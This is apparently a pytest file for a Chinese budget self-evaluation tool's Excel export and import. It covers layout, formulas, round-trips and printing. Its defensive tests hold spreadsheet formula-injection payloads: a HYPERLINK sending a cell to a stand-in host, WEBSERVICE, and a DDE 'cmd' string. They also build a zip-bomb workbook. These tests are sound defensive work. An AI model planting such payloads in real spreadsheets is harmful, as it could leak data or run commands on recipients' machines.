"""Excel in and out: the official layout with live formulas, and back to the same parameters."""

import json
import shutil
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from evaltools.domain.checks import check_project
from evaltools.cli import main
from evaltools.domain.model import ProjectParams
from evaltools.domain.yamlio import ParamsError, _drop_nulls
from evaltools.domain.rules import load_rules
from evaltools.domain.scoring import score
from evaltools.domain.params_writer import write_params
from evaltools.domain.workbook import MAX_CELLS, MAX_UNCOMPRESSED_MB, import_workbook, read_workbook
from evaltools.writers.xlsx import export_workbook, template_workbook
from evaltools.domain.workspace import load_project
from evaltools.writers.xlsx_print import column_points, lines_needed, printable_points

from conftest import SEED, add_project, overlapping_words
from printed import glyph_sizes, needs_office, page_count, page_text, print_to_pdf



@pytest.fixture
def exported(seed, tmp_path):
    return export_workbook([(seed.params, seed.rules)], tmp_path / "seed.xlsx")


# --- strangers' files -----------------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://example.invalid/?d="&B3,"详情")', "=WEBSERVICE(\"http://example.invalid\")",
              "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "#N/A"]
COMPUTED = {"D6", "E6", "F6", "H6", "I6"}  # plus the 总分 row's G, H, I


def test_text_that_looks_like_a_formula_is_written_as_text(seed_data, seed, tmp_path):
    seed_data["project"]["name"] = INJECTIONS[0]
    seed_data["goals"]["expected"] = INJECTIONS[1]
    for indicator, text in zip(seed_data["indicators"], INJECTIONS[2:], strict=False):
        indicator["actual"] = indicator["deviation"] = text
    seed_data["project"]["leader"] = INJECTIONS[5]  # lands on the 其他参数 sheet
    params = ProjectParams.model_validate(_drop_nulls(seed_data))
    book = load_workbook(export_workbook([(params, seed.rules)], tmp_path / "hostile.xlsx"))
    form, other = book.worksheets[0], book["其他参数"]
    total_row = 13 + len(params.indicators)
    formulas = {c.coordinate for row in form.iter_rows() for c in row if c.data_type == "f"}
    assert formulas == COMPUTED | {f"G{total_row}", f"H{total_row}", f"I{total_row}"}
    assert not [c for row in other.iter_rows() for c in row if c.data_type == "f"]
    texts = [c for sheet in (form, other) for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value in INJECTIONS]
    assert {c.value for c in texts} == set(INJECTIONS)
    assert all(c.data_type == "s" for c in texts)
    # Excel's own mark for "typed with a leading apostrophe": the cell stays text when edited
    assert all(c.quotePrefix for c in texts if c.value[0] in "=+-@\t")
    [data] = import_workbook(tmp_path / "hostile.xlsx")
    assert data["project"]["name"] == INJECTIONS[0] and data["goals"]["expected"] == INJECTIONS[1]


def test_a_quote_in_a_rule_label_cannot_open_a_formula(seed, tmp_path):
    bands = [band.model_copy(update={"label": '优",WEBSERVICE("http://example.invalid"),"'}) if i == 0 else band
             for i, band in enumerate(seed.rules.grades)]
    rules = seed.rules.model_copy(update={"grades": bands})
    sheet = load_workbook(export_workbook([(seed.params, rules)], tmp_path / "label.xlsx")).worksheets[0]
    grade = next(c.value for row in sheet.iter_rows() for c in row if c.data_type == "f" and "IF(ROUND" in c.value)
    assert '"优"",WEBSERVICE(""http://example.invalid""),"""' in grade


def bomb(path, megabytes: int):
    """A workbook whose one worksheet inflates to ``megabytes`` (a few kB zipped)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (megabytes * 2**20))
    return path


def test_a_zip_bomb_is_refused_unread_and_at_once(tmp_path):
    path = bomb(tmp_path / "bomb.xlsx", MAX_UNCOMPRESSED_MB + 10)
    assert path.stat().st_size < 2**20
    started = time.monotonic()
    with pytest.raises(ParamsError, match=f"超过上限 {MAX_UNCOMPRESSED_MB} MB"):
        import_workbook(path)
    assert time.monotonic() - started < 0.5


def test_a_workbook_with_too_many_cells_is_refused_at_once(tmp_path):
    book = Workbook()
    book.active.append(["项目支出名称", "x"])
    book.save(tmp_path / "small.xlsx")
    cells = b"".join(b'<c r="A%d"><v>1</v></c>' % i for i in range(MAX_CELLS + 1))
    with zipfile.ZipFile(tmp_path / "small.xlsx") as source, \
            zipfile.ZipFile(tmp_path / "many.xlsx", "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b'<row r="2">' + cells + b"</row></sheetData>")
            target.writestr(item, data)
    started = time.monotonic()
    with pytest.raises(ParamsError, match="个单元格，超过上限"):
        import_workbook(tmp_path / "many.xlsx")
    assert time.monotonic() - started < 0.5


def test_sheets_that_are_not_a_form_are_skipped_and_named(exported):
    book = load_workbook(exported)
    book.create_sheet("备注").append(["领导批示", "同意"])
    book.save(exported)
    imported = read_workbook(exported)
    assert list(imported.projects) == ["公共资源交易平台运行维护费"] and imported.skipped == ["备注"]


class TestImportLosesNothing:
    def test_an_existing_file_is_not_replaced_without_force(self, exported, tmp_path):
        target = tmp_path / "dept" / "公共资源交易平台运行维护费.yaml"
        target.parent.mkdir()
        target.write_text("# 手改的注释\n", encoding="utf-8")
        with pytest.raises(ParamsError) as info:
            write_params(read_workbook(exported).projects, target.parent, exported)
        assert "--force" in str(info.value) and "将写入" in str(info.value) and "覆盖" in str(info.value)
        assert target.read_text(encoding="utf-8") == "# 手改的注释\n"
        assert write_params(read_workbook(exported).projects, target.parent, exported, force=True) == [target]
        assert "106.62" in target.read_text(encoding="utf-8")

    @pytest.mark.parametrize("name", ["_department", "_rules", ".hidden"])
    def test_a_reserved_name_is_refused(self, seed_data, seed, workspace, tmp_path, name):
        seed_data["project"]["name"] = name
        params = ProjectParams.model_validate(_drop_nulls(seed_data))
        path = export_workbook([(params, seed.rules)], tmp_path / "reserved.xlsx")
        folder = workspace / "2024" / "xiangxi-ggzy"
        before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
        with pytest.raises(ParamsError, match="保留的文件名"):
            write_params(read_workbook(path).projects, folder, path, force=True)
        assert {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()} == before

    def test_two_sheets_that_would_write_the_same_file_are_refused(self, exported, tmp_path):
        book = load_workbook(exported)
        book.copy_worksheet(book.worksheets[0]).title = "副本"
        book.save(exported)
        imported = read_workbook(exported)
        assert len(imported.projects) == 2
        with pytest.raises(ParamsError, match="项目名称重复"):
            write_params(imported.projects, tmp_path / "out", exported)
        assert not (tmp_path / "out").exists()

    def test_a_name_too_long_for_the_file_system_is_shortened(self, seed_data, seed, tmp_path):
        seed_data["project"]["name"] = "公共资源交易平台运行维护" * 12
        params = ProjectParams.model_validate(_drop_nulls(seed_data))
        path = export_workbook([(params, seed.rules)], tmp_path / "long.xlsx")
        [written] = write_params(read_workbook(path).projects, tmp_path / "out", path)
        assert written.is_file() and len(written.name.encode()) <= 150


def test_the_round_trip_gives_back_the_same_model_and_score(seed, exported):
    [data] = import_workbook(exported)
    again = ProjectParams.model_validate(_drop_nulls(data))
    assert again == seed.params
    assert score(again, seed.rules).total == Decimal("96.00")


def test_the_form_keeps_its_layout_and_formulas(exported):
    sheet = load_workbook(exported)["公共资源交易平台运行维护费"]
    assert sheet["A1"].value == "湘西土家族苗族自治州公共资源交易中心项目支出绩效自评表"
    assert sheet["E6"].value == "=SUM(E7:E9)"
    assert sheet["H6"].value.startswith("=IF(E6>0,F6/E6") and sheet["I6"].value.startswith("=IF(E6>0,ROUND(MIN(F6/E6,1)*G6")
    total_row = next(r for r in range(13, 30) if sheet[f"A{r}"].value == "总分")
    assert sheet[f"H{total_row}"].value == "=I6+SUM(H13:H19)"
    assert '"较差"' in sheet[f"I{total_row}"].value  # the grade bands of the rules in force
    assert "B13:B16" in {str(r) for r in sheet.merged_cells.ranges}  # 产出指标 over its four rows
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4 and sheet["D13"].font.name == "宋体"


def test_several_projects_get_a_summary_sheet(workspace, tmp_path):
    from evaltools.domain.workspace import load_project

    second = add_project(workspace / "2024" / "xiangxi-ggzy", "expert-system", "专家评审系统升级", "50.00", "40.00")
    projects = [load_project(p) for p in (SEED, second)]
    book = load_workbook(export_workbook([(p.params, p.rules) for p in projects], tmp_path / "two.xlsx"))
    assert book.sheetnames[0] == "汇总"
    rows = list(book["汇总"].iter_rows(min_row=2, values_only=True))
    assert [(r[1], r[5], r[6]) for r in rows] == [("公共资源交易平台运行维护费", 96.0, "优"), ("专家评审系统升级", 94.0, "优")]


def hand_made(path, weight="30"):
    """A 自评表 typed by hand in the official layout: merged cells, numbers as text, placeholders."""
    book = Workbook()
    sheet = book.active
    sheet.title = "自评表"
    sheet.append(["某局项目支出绩效自评表"])
    sheet.append(["（2024年度）"])
    sheet.append(["项目支出名称", "信息系统运维"])
    sheet.append(["主管部门", "某局", None, None, "实施单位", "某局信息中心"])
    sheet.append([])  # a blank row
    sheet.append(["项目资金（万元）", None, None, "年初预算数", "全年预算数", "全年执行数", "分值", "执行率", "得分"])
    sheet.append([None, "年度资金总额", None, "50.00", "50.00", "48.00", "10", "96.00%", "9.6"])
    sheet.append([None, "其中：当年财政拨款", None, "50.00", "50.00", "48.00", "——", "——", "——"])
    sheet.append([None, "上年结转资金", None, "/", "/", "/", "——", "——", "——"])
    sheet.append([None, "其他资金", None, None, None, None, "——", "——", "——"])
    sheet.append(["年度总体目标", "预期目标", None, None, None, "实际完成情况"])
    sheet.append([None, "保障系统稳定运行", None, None, None, "系统全年稳定运行"])
    sheet.append(["绩效指标", "一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "偏差原因分析及改进措施"])
    sheet.append([None, "产出指标（50分）", "数量指标", "运维系统数", "≥12个", "12个", weight, "30", None])
    sheet.append([None, None, "质量指标", "系统可用率", "≥99%", "99.5%", "20", "20", None])
    sheet.append([])  # blank row inside the table
    sheet.append([None, "效益指标（30分）", "社会效益指标", "服务群众", "定性", "良好", "30", "27", "加强宣传"])
    sheet.append([None, "满意度指标（10分）", "服务对象满意度指标", "满意度", "≥90%", "95%", "10", "10", None])
    sheet.append(["总分", None, None, None, None, None, "100", "96.6"])
    sheet.append(["单位负责人签字：张三　填表人：李四　联系电话：0743-1234567　填报日期：2025年4月20日"])
    for ref in ("B3:I3", "B4:D4", "F4:I4", "A6:A10", "B6:C6", "B7:C7", "A11:A12", "B11:E11", "F11:I11",
                "B12:E12", "F12:I12", "A13:A18", "B14:B16", "A19:F19"):
        sheet.merge_cells(ref)
    book.save(path)
    return path


def test_a_hand_made_workbook_in_the_official_layout_is_read(tmp_path):
    [data] = import_workbook(hand_made(tmp_path / "hand.xlsx"))
    assert data["year"] == 2024
    assert data["project"] == {"name": "信息系统运维", "fund_type": "一般公共预算", "department": "某局",
                               "implementer": "某局信息中心"}
    assert data["budget"] == {"appropriation": {"initial": Decimal("50.00"), "annual": Decimal("50.00"),
                                                "executed": Decimal("48.00")}}
    names = [i["name"] for i in data["indicators"]]
    assert names == ["运维系统数", "系统可用率", "服务群众", "满意度"]
    quality = data["indicators"][1]
    assert (quality["level1"], quality["level2"], quality["weight"], quality["actual_value"]) == (
        "产出指标", "质量指标", Decimal(20), "99.5%")
    assert data["indicators"][2]["deviation"] == "加强宣传"
    assert data["evaluation"]["form"] == {"unit_head": "张三", "filled_by": "李四", "phone": "0743-1234567",
                                          "date": "2025年4月20日"}
    params = ProjectParams.model_validate({**data, "evaluation": {**data["evaluation"], "method": "自评", "evaluator": "评价组"}})
    card = score(params, load_rules())
    assert card.execution.score == Decimal("9.60") and card.total == Decimal("96.60")


def test_what_cannot_be_read_names_the_sheet_and_cell(tmp_path):
    with pytest.raises(ParamsError) as info:
        import_workbook(hand_made(tmp_path / "bad.xlsx", weight="十五"))
    [problem] = info.value.problems
    assert problem.field == "自评表!G14" and "十五" in problem.message


def test_a_file_that_is_not_a_workbook_is_a_message(tmp_path):
    bogus = tmp_path / "x.xlsx"
    bogus.write_text("not excel", encoding="utf-8")
    with pytest.raises(ParamsError, match="不是可读的 Excel"):
        import_workbook(bogus)


def test_the_template_has_lists_and_weights_and_imports(tmp_path):
    path = template_workbook(load_rules(), tmp_path / "blank.xlsx")
    book = load_workbook(path)
    sheet = book["项目"]
    assert len(sheet.data_validations.dataValidation) == 2 and len(book["其他参数"].data_validations.dataValidation) == 1
    assert sheet["G6"].value == 10 and sheet["G13"].value == 12.5  # 产出 50 over its four categories
    [data] = import_workbook(path)
    params = ProjectParams.model_validate(_drop_nulls(data))
    assert len(params.indicators) == 9 and sum(i.weight for i in params.indicators) == 90
    from evaltools.domain.checks import run_checks

    # as it comes, it validates; the checks then ask for its placeholders to be filled in
    assert "TEMPLATE-TEXT" in {f.code for f in run_checks(params, load_rules())}


def test_cli_import_names_skipped_sheets_and_asks_before_overwriting(exported, tmp_path, capsys):
    book = load_workbook(exported)
    book.create_sheet("备注").append(["x"])
    book.save(exported)
    target = tmp_path / "one.yaml"
    assert main(["import-xlsx", str(exported), "-o", str(target)]) == 0
    assert "跳过工作表“备注”" in capsys.readouterr().out
    assert main(["import-xlsx", str(exported), "-o", str(target)]) == 1
    assert "--force" in capsys.readouterr().err
    assert main(["import-xlsx", str(exported), "-o", str(target), "--force"]) == 0


def test_cli_export_into_a_missing_folder_and_never_over_a_file_unasked(tmp_path, capsys):
    workbook = tmp_path / "new" / "folder" / "out.xlsx"
    assert main(["export-xlsx", str(SEED), "-o", str(workbook)]) == 0 and workbook.is_file()
    assert main(["export-xlsx", str(SEED), "-o", str(workbook)]) == 2
    assert "已存在" in capsys.readouterr().err
    assert main(["export-xlsx", str(SEED), "-o", str(workbook), "--force"]) == 0


def test_cli_round_trip_into_another_folder_scores_checks_and_says_what_was_left_out(tmp_path, capsys):
    """The issue's step: export-xlsx, then import-xlsx -o other/folder/…: the imported file is
    readable, scored and checked; the attachment its folder lacks is named, never a refusal."""
    workbook = tmp_path / "out.xlsx"
    assert main(["export-xlsx", str(SEED), "-o", str(workbook)]) == 0
    target = tmp_path / "other" / "folder" / "imported.yaml"
    capsys.readouterr()
    assert main(["import-xlsx", str(workbook), "-o", str(target)]) == 0
    err = capsys.readouterr().err
    assert "attachments/notice.md" in err and "找不到" in err and str(target) in err
    assert "106.62" in target.read_text(encoding="utf-8")
    assert main(["score", "--json", str(target)]) == 0
    assert json.loads(capsys.readouterr().out)[0]["total_score"] == 96.0
    code = main(["check", str(target)])
    out = capsys.readouterr().out
    assert "ATTACHMENT-MISSING" not in out and "附件文件" not in out and "1 个项目" in out
    assert code == 0 or "[ATTACHMENT-NOT-ATTACHED]" in out


def test_cli_import_keeps_an_attachment_found_from_where_it_writes(tmp_path, capsys):
    workbook = tmp_path / "out.xlsx"
    assert main(["export-xlsx", str(SEED), "-o", str(workbook)]) == 0
    shutil.copytree(SEED.parent / "attachments", tmp_path / "attachments")
    target = tmp_path / "imported.yaml"
    capsys.readouterr()
    assert main(["import-xlsx", str(workbook), "-o", str(target)]) == 0
    assert "找不到" not in capsys.readouterr().err and "file: attachments/notice.md" in target.read_text(encoding="utf-8")
    assert main(["check", str(target)]) == 0


def test_a_hand_made_form_imports_into_a_department_folder(tmp_path, workspace, capsys):
    """The form lacks 评价方式 and the team; the department's defaults supply them."""
    target = workspace / "2024" / "xiangxi-ggzy"
    assert main(["import-xlsx", str(hand_made(tmp_path / "hand.xlsx")), "-o", str(target)]) == 0
    imported = target / "信息系统运维.yaml"
    assert imported.is_file()
    capsys.readouterr()
    assert main(["score", "--json", str(imported)]) == 0
    assert json.loads(capsys.readouterr().out)[0]["total_score"] == 96.6


def test_a_hand_made_form_alone_imports_as_a_form_only_file_and_is_checked(tmp_path, capsys):
    """A 自评表 without its report needs no 评价方式/评价机构; the rest is still checked."""
    target = tmp_path / "alone.yaml"
    assert main(["import-xlsx", str(hand_made(tmp_path / "hand.xlsx")), "-o", str(target)]) == 0
    findings = check_project(load_project(target))
    codes = {f.code for f in findings}
    assert "REPORT-FIELD" not in codes
    # 48 of 50 万元 spent (96 %) and no word on why
    assert "EXEC-UNEXPLAINED" in codes


def test_what_the_official_layout_has_no_cell_for_survives_the_round_trip(tmp_path, seed_data):
    """A province's extra budget rows, per-row 执行率 and 原因, 财务负责人 go to 其他参数 and come back."""
    seed_data["budget"] = {"appropriation": {"initial": "0.00", "annual": "96.62", "executed": "96.62", "rate": "100%"},
                           "unit_funds": {"initial": "10", "annual": "10", "executed": "10", "reason": "单位自有资金"}}
    seed_data["evaluation"]["form"]["finance_head"] = "李芳"
    params = ProjectParams.model_validate(_drop_nulls(seed_data))
    workbook = export_workbook([(params, load_rules())], tmp_path / "out.xlsx")
    [data] = import_workbook(workbook)
    back = ProjectParams.model_validate(_drop_nulls(data))
    assert back.budget == params.budget and back.evaluation.form.finance_head == "李芳"
    sheet = load_workbook(workbook).worksheets[0]
    texts = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert "单位资金" in texts and any("财务负责人：李芳" in t for t in texts)  # on the form itself


def test_number_formats_and_rounding_come_from_the_rules(seed, tmp_path):
    from evaltools.domain.rules import Display

    rules = seed.rules.model_copy(update={"display": Display(score=0, money=1), "decimals": 1})
    sheet = load_workbook(export_workbook([(seed.params, rules)], tmp_path / "rules.xlsx")).worksheets[0]
    assert sheet["I6"].number_format == "0" and sheet["I6"].value.endswith(",1),0)")  # ROUND(…, decimals)
    assert sheet["E6"].number_format == "0.0" and sheet["H6"].number_format == "[=1]0%;0.00%"  # 100%, or 99.50%
    total_row = next(r for r in range(13, 30) if sheet[f"A{r}"].value == "总分")
    assert f"ROUND(H{total_row},1)>=90" in sheet[f"I{total_row}"].value


def many_indicators(seed_data: dict, count: int) -> ProjectParams:
    """The seed with ``count`` indicators in short words, as most forms have them: 产出 50, 效益 30 and
    满意度 10 points shared evenly, one point lost where a 偏差原因 says why."""
    names = ["培训人次", "系统可用率", "数据备份次数", "故障响应时间", "运维合同签订", "设备更新数量", "交易场次",
             "电子化率", "平台访问量", "投诉办结率", "资金节约率", "专家抽取次数", "见证场次", "档案归档率"]
    levels = [("产出指标", ["数量指标", "质量指标", "时效指标", "成本指标"], 50), ("效益指标", ["社会效益指标", "经济效益指标"], 30),
              ("满意度指标", ["服务对象满意度指标"], 10)]
    shares = {"产出指标": count // 2, "满意度指标": max(count // 10, 1)}
    shares["效益指标"] = count - shares["产出指标"] - shares["满意度指标"]
    rows = []
    for level1, categories, weight in levels:
        each = (Decimal(weight) / shares[level1]).quantize(Decimal("0.01"))
        for i in range(shares[level1]):
            lost = i == 1
            if i == shares[level1] - 1:  # the level's points in all
                each = Decimal(weight) - each * (shares[level1] - 1)
            rows.append({"level1": level1, "level2": categories[i % len(categories)],
                         "name": f"{names[len(rows) % len(names)]}（{len(rows) + 1}）", "target": "≥95%",
                         "actual": "96.5%，完成" if not lost else "90%", "weight": str(each),
                         "score": str(each - 1 if lost else each), "deviation": "下半年补齐" if lost else None})
    seed_data["indicators"] = rows
    seed_data.pop("declared", None)
    return ProjectParams.model_validate(_drop_nulls(seed_data))


class TestPrintedLayout:
    def test_wrapped_text_gets_a_row_tall_enough(self, exported):
        sheet = load_workbook(exported)["公共资源交易平台运行维护费"]
        goal_row = next(r for r in range(1, 30) if sheet[f"A{r}"].value == "年度总体目标") + 1
        indicator_row = next(r for r in range(13, 30) if sheet[f"D{r}"].value == "推动全州公共资源交易事业高质量发展")
        # a long goal (several lines in its merged cell) and an indicator with a long 实际完成值, at
        # LibreOffice's line pitch (14.5 pt for 10 pt text)
        assert sheet.row_dimensions[goal_row].height >= 8 * 14.5
        assert sheet.row_dimensions[indicator_row].height >= 4 * 14.5
        for r in range(1, sheet.max_row + 1):
            assert sheet.row_dimensions[r].height, r  # LibreOffice does not grow rows itself

    def test_lines_needed_counts_a_line_where_it_may_break(self):
        assert lines_needed("12345", 10) == 1
        assert lines_needed("一二三四五六七八九十", 10) == 2  # 10 pt characters in a 56 pt column
        assert lines_needed("甲\n乙\n丙", 30) == 3
        # "（10" cannot end a line nor "分）" open one: the breaks LibreOffice makes
        assert lines_needed("满意度指标（10分）", 9) == 3

    def test_the_form_columns_fill_the_a4_width_and_share_it_by_what_they_hold(self, exported, seed_data, tmp_path):
        sheet = load_workbook(exported).worksheets[0]
        widths = [sheet.column_dimensions[c].width for c in "ABCDEFGHI"]
        points = sum(column_points(w) for w in widths)
        assert printable_points()[0] - 8 <= points <= printable_points()[0]
        assert widths[5] == max(widths)  # 实际完成值, the longest texts
        for indicator in seed_data["indicators"]:
            indicator["actual"], indicator["deviation"] = "完成", None
        short = ProjectParams.model_validate(_drop_nulls(seed_data))
        other = load_workbook(export_workbook([(short, load_rules())], tmp_path / "short.xlsx")).worksheets[0]
        assert other.column_dimensions["F"].width < widths[5]  # short results: the room goes elsewhere

    def test_the_form_prints_at_a_set_scale_that_keeps_9_pt(self, exported, seed_data, tmp_path):
        sheet = load_workbook(exported).worksheets[0]
        assert not sheet.sheet_properties.pageSetUpPr.fitToPage  # the same scale in Excel and LibreOffice
        assert 90 <= sheet.page_setup.scale <= 100
        assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4 and sheet.page_setup.orientation == "portrait"
        assert sheet.print_options.horizontalCentered and sheet.print_title_rows  # the indicator heading repeats
        book = load_workbook(export_workbook([(many_indicators(seed_data, 60), load_rules())], tmp_path / "60.xlsx"))
        assert book.worksheets[0].page_setup.scale == 90  # too long for one page: several, still legible

    def test_the_workbook_is_the_units_not_the_tools(self, exported):
        properties = load_workbook(exported).properties
        assert properties.creator == "湘西土家族苗族自治州公共资源交易中心" and properties.title == "2024年度项目支出绩效自评表"

    def test_the_machine_sheet_is_hidden_and_holds_numbers_as_numbers(self, exported):
        book = load_workbook(exported)
        other = book["其他参数"]
        assert other.sheet_state == "hidden" and book.worksheets[0].sheet_state == "visible"
        rows = {row[1].value: row for row in other.iter_rows(min_row=2)}
        rate = rows["declared.execution_rate"]
        assert rate[2].data_type == "n" and rate[2].value == 100 and rate[2].number_format == "0.00"
        assert rows["spending[0].amount"][2].value == 319788 and rows["year"][2].value == 2024
        assert rows["project.postcode"][2].value == "416000"  # text that looks like a number stays text
        assert rate[3].value == "表中所填数字 › 执行率（%）"  # what the path means, in words
        assert [c.value for c in other[1]] == ["工作表", "参数路径", "值", "参数名称"]

    def test_other_sheets_print_on_a4_fitted_to_the_width_with_titles(self, workspace, tmp_path):
        add_project(workspace / "2024" / "xiangxi-ggzy", "second", "第二个项目")
        projects = [(p.params, p.rules) for p in map(load_project, sorted((workspace / "2024" / "xiangxi-ggzy").glob("[!_]*.yaml")))]
        book = load_workbook(export_workbook(projects, tmp_path / "two.xlsx"))
        for sheet in (book["汇总"], book["其他参数"]):
            assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4, sheet.title
            assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1, sheet.title
            assert sheet.page_setup.fitToHeight == 0 and sheet.print_title_rows == "$1:$1", sheet.title
            assert sheet.print_options.horizontalCentered, sheet.title
        assert book["其他参数"]["C2"].alignment.wrap_text


def printed_form(params: ProjectParams, tmp_path) -> Path:
    return print_to_pdf(export_workbook([(params, load_rules())], tmp_path / "form.xlsx"), tmp_path)


@needs_office
class TestPrintedThroughLibreOffice:
    def test_the_seed_form_prints_alone_on_one_page_no_glyph_under_9_pt(self, exported, tmp_path):
        pdf = print_to_pdf(exported, tmp_path)
        assert page_count(pdf) == 1  # the form alone: the other parameters are not printed
        first = page_text(pdf, 1)
        assert "三级指标" in first and "总分" in first and "单位负责人签字" in first  # the whole form
        assert "declared" not in first and "{{" not in first
        lines = first.splitlines()
        for amount in ("106.62", "100%", "96", "15"):
            assert any(amount in line for line in lines), amount  # whole, on one line
        sizes = glyph_sizes(pdf, 1)
        assert min(sizes) >= 9, sizes
        assert overlapping_words(pdf, page=1) == []

    def test_the_form_without_a_deviation_column_too(self, seed_data, tmp_path):
        for indicator in seed_data["indicators"]:
            indicator["deviation"] = None
        pdf = printed_form(ProjectParams.model_validate(_drop_nulls(seed_data)), tmp_path)
        assert page_count(pdf) == 1 and "偏差原因" not in page_text(pdf, 1)  # 附件1-4's eight columns
        assert min(glyph_sizes(pdf, 1)) >= 9
        assert overlapping_words(pdf, page=1) == []

    def test_a_20_indicator_form_prints_on_one_page_no_glyph_under_9_pt(self, seed_data, tmp_path):
        pdf = printed_form(many_indicators(seed_data, 20), tmp_path)
        assert page_count(pdf) == 1
        text = page_text(pdf, 1)
        assert "（1）" in text and "（20）" in text and "总分" in text and "单位负责人签字" in text
        assert min(glyph_sizes(pdf, 1)) >= 9
        assert overlapping_words(pdf, page=1) == []

    def test_a_form_too_long_for_a_page_runs_on_legibly_with_its_heading(self, seed_data, tmp_path):
        pdf = printed_form(many_indicators(seed_data, 60), tmp_path)
        pages = page_count(pdf)
        assert pages == 2
        for page in range(1, pages + 1):
            assert min(glyph_sizes(pdf, page)) >= 9, page
            assert "三级指标" in page_text(pdf, page), page  # the indicator heading on each page
        assert "（60）" in page_text(pdf, pages) and "单位负责人签字" in page_text(pdf, pages)
